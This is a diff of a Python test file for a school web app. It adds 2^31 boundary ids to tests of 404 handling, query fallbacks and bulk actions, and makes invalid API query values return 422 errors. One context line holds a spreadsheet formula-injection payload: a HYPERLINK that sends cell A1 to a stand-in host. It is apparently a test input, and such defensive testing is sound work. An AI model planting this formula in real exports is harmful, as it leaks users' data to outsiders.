@@ -25,6 +25,7 @@ from tests.smtp import free_port
 from tests.webclient import client_as, first_planned, report, state_of
 
 HUGE = "99999999999999999999"  # past 2^63: no database id can be this
+WIDE = str(2**31)  # past PostgreSQL's INTEGER: fine in Python and SQLite, an error there
 FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"x")'
 
 
@@ -42,6 +43,9 @@ def _roadmap_id(db) -> int:
     "path",
     [
         f"/occurrences/{HUGE}",
+        f"/occurrences/{WIDE}",
+        f"/evidence/{WIDE}",
+        f"/schools/{WIDE}",
         f"/evidence/{HUGE}",
         f"/documents/{HUGE}",
         f"/schools/{HUGE}",
@@ -54,7 +58,9 @@ def test_ids_no_database_can_hold_are_404(app, path: str) -> None:
     assert client_as(app, "coordinator").get(path).status_code == 404
 
 
-@pytest.mark.parametrize("query", [f"page={HUGE}", f"section={HUGE}", "page=²", "section=-1"])
+@pytest.mark.parametrize(
+    "query", [f"page={HUGE}", f"section={HUGE}", f"section={WIDE}", "page=²", "section=-1"]
+)
 def test_odd_query_values_fall_back_to_the_default(app, query: str) -> None:
     response = client_as(app, "school1").get(f"/tasks?{query}")
     assert response.status_code == 200 and 'id="overdue-count"' in response.text
@@ -67,13 +73,15 @@ def test_posting_to_a_huge_id_is_404(app) -> None:
     assert coordinator.post(f"/escalations/{HUGE}/acknowledge").status_code == 404
 
 
-@pytest.mark.parametrize("item", ["foo", "occurrence:²", f"occurrence:{HUGE}", "document:", ":1"])
+@pytest.mark.parametrize(
+    "item", ["foo", "occurrence:²", f"occurrence:{HUGE}", f"occurrence:{WIDE}", "document:", ":1"]
+)
 def test_bulk_approval_skips_what_is_not_an_item(app, item: str) -> None:
     response = client_as(app, "curator1").post("/queue/approve", data={"item": [item]})
     assert response.status_code == 303
 
 
-@pytest.mark.parametrize("value", ["²", HUGE, "-3", "x"])
+@pytest.mark.parametrize("value", ["²", HUGE, WIDE, "-3", "x"])
 def test_marking_odd_notification_ids_read_is_harmless(app, value: str) -> None:
     response = client_as(app, "school1").post("/inbox/read", data={"id": [value]})
     assert response.status_code == 303
@@ -152,16 +160,20 @@ def api(demo, make_web_app):
 
 
 @pytest.mark.parametrize(
-    "path", [f"/occurrences/{HUGE}", f"/occurrences/{HUGE}/history", "/no/such/thing"]
+    "path",
+    [f"/occurrences/{HUGE}", f"/occurrences/{WIDE}/history", "/no/such/thing"],
 )
 def test_api_unknown_ids_and_paths_are_json_404(api, path: str) -> None:
     response = api("GET", path)
     assert response.status_code == 404 and response.json["error"]["code"] == "not_found"
 
 
-def test_api_odd_query_values_fall_back(api) -> None:
-    response = api("GET", f"/occurrences?page={HUGE}&school={HUGE}&per_page=²")
-    assert response.status_code == 200 and response.json["page"] == 1
+def test_api_odd_query_values_are_422_naming_each(api) -> None:
+    response = api("GET", f"/occurrences?page={HUGE}&school={HUGE}&per_page=²&state=nope")
+    assert response.status_code == 422 and response.json["error"]["code"] == "invalid"
+    assert {f["field"] for f in response.json["error"]["fields"]} == {"page", "school", "per_page"}
+    unknown = api("GET", "/occurrences?state=nope")
+    assert unknown.status_code == 422 and "nope" in unknown.json["error"]["message"]
 
 
 @pytest.mark.parametrize(
